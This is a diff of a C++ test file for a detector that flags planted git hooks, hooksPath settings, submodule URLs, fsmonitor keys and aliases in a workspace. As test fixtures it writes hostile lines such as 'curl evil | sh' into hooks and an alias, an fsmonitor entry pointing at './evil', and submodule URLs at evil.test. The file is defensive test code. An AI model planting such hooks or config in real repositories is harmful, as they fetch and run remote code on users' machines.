@@ -113,13 +113,15 @@ TEST_F(PlantedCode, HooksUnderCoreHooksPathAreFlagged) {
   write_file(ws_ + "/old/.git/config", "[core]\n\tbare = false\n\thooksPath = \".husky\"  # husky\n");
   write_file(ws_ + "/old/.husky/pre-commit", "npm test\n");
   before_ = snapshot_autorun_entries(ws_, true);
+  const PlantedSnapshot before_git_write = snapshot_autorun_entries(ws_, false);
   EXPECT_EQ(planted(), std::vector<std::string>{});
   write_file(ws_ + "/old/.husky/pre-commit", "curl evil | sh\n");
   write_file(ws_ + "/old/.husky/post-checkout", "curl evil | sh\n");
   EXPECT_EQ(planted(), (std::vector<std::string>{"old/.husky/post-checkout", "old/.husky/pre-commit"}));
-  // Without write_git's check (a command the human let write git metadata),
-  // the hooks folder is git's and not looked at.
-  EXPECT_EQ(planted_since(before_, snapshot_autorun_entries(ws_, false)), std::vector<std::string>{});
+  // Without write_git's check (a command the human let write git metadata:
+  // a checkout changes tracked files), the worktree's hooks folder is
+  // the repository's content and not looked at.
+  EXPECT_EQ(planted_since(before_git_write, snapshot_autorun_entries(ws_, false)), std::vector<std::string>{});
 }
 
 // A submodule's URL is where `git submodule update` connects (with the
@@ -129,10 +131,11 @@ TEST_F(PlantedCode, HooksUnderCoreHooksPathAreFlagged) {
 TEST_F(PlantedCode, ChangedSubmoduleURLsAreFlagged) {
   write_file(ws_ + "/.gitmodules", "[submodule \"lib\"]\n\tpath = lib\n\turl = https://example.org/lib.git\n");
   before_ = snapshot_autorun_entries(ws_, true);
+  const PlantedSnapshot before_git_write = snapshot_autorun_entries(ws_, false);
   write_file(ws_ + "/.gitmodules", "[submodule \"lib\"]\n\tpath = lib\n\turl = https://evil.test/c2VjcmV0\n");
   write_file(ws_ + "/old/.GITMODULES", "[submodule \"x\"]\n\turl = https://evil.test/x\n");
   EXPECT_EQ(planted(), (std::vector<std::string>{".gitmodules", "old/.GITMODULES"}));
-  EXPECT_EQ(planted_since(before_, snapshot_autorun_entries(ws_, false)), std::vector<std::string>{});
+  EXPECT_EQ(planted_since(before_git_write, snapshot_autorun_entries(ws_, false)), std::vector<std::string>{});
 }
 
 // The other places a hooks path is set: on the section's own line, with
@@ -482,12 +485,39 @@ TEST_F(PlantedCode, ALinkInPlaceOfAnAutorunFileIsFlagged) {
   EXPECT_EQ(planted(), (std::vector<std::string>{".envrc", "sub/.git"}));
 }
 
-TEST_F(PlantedCode, GitEntriesAreLeftOutWhenTheHumanAllowedGitWrites) {
+// What git writes (a clone's config, remotes, a template's sample hooks,
+// a bare repository) is left to a command the human allowed to write git
+// metadata.
+TEST_F(PlantedCode, WhatGitWritesIsLeftToACommandAllowedToWriteIt) {
   const PlantedSnapshot before = snapshot_autorun_entries(ws_, false);
-  write_file(ws_ + "/sub/.git/config", "[core]\n");
-  make_repository_shape(ws_ + "/bare");
+  write_file(ws_ + "/sub/.git/config",
+             "[core]\n\tbare = false\n[remote \"origin\"]\n\turl = https://example.org/x.git\n[user]\n\tname = Me\n");
+  write_file(ws_ + "/sub/.git/hooks/pre-commit.sample", "#!/bin/sh\n");
+  write_file(ws_ + "/old/.git/config", "[core]\n\tlogallrefupdates = true\n");
+  fs::create_directories(ws_ + "/bare/objects");
+  fs::create_directories(ws_ + "/bare/refs/heads");
+  write_file(ws_ + "/bare/HEAD", "ref: refs/heads/main\n");
+  write_file(ws_ + "/bare/config", "[core]\n\tbare = true\n");
   write_file(ws_ + "/sub/.envrc", "x\n");
   EXPECT_EQ(planted_since(before, snapshot_autorun_entries(ws_, false)), std::vector<std::string>{"sub/.envrc"});
+}
+
+// What git's own commands never write is still found there: a hook that is
+// no template's sample (a nested clone's, a submodule's under .git/modules)
+// and a config key that runs a program, in a file the config includes
+// too. Only the file goes, not the repository.
+TEST_F(PlantedCode, AGitWriteStillCannotPlantHooksOrCommands) {
+  write_file(ws_ + "/old/.git/config", "[include]\n\tpath = shared.cfg\n");
+  write_file(ws_ + "/old/.git/shared.cfg", "[user]\n\tname = Me\n");
+  const PlantedSnapshot before = snapshot_autorun_entries(ws_, false);
+  write_file(ws_ + "/old/.git/shared.cfg", "[user]\n\tname = Me\n[core]\n\tfsmonitor = ./evil\n");
+  write_file(ws_ + "/old/.git/hooks/pre-commit", "curl evil | sh\n");
+  write_file(ws_ + "/old/.git/modules/lib/hooks/post-checkout", "curl evil | sh\n");
+  write_file(ws_ + "/old/.git/modules/lib/config", "[alias]\n\tst = !curl evil | sh\n");
+  make_repository_shape(ws_ + "/bare");  // its config sets core.fsmonitor
+  EXPECT_EQ(planted_since(before, snapshot_autorun_entries(ws_, false)),
+            (std::vector<std::string>{"bare/config", "old/.git/config", "old/.git/hooks/pre-commit",
+                                      "old/.git/modules/lib/config", "old/.git/modules/lib/hooks/post-checkout"}));
 }
 
 // What no approved git command writes, and what points git at other config,
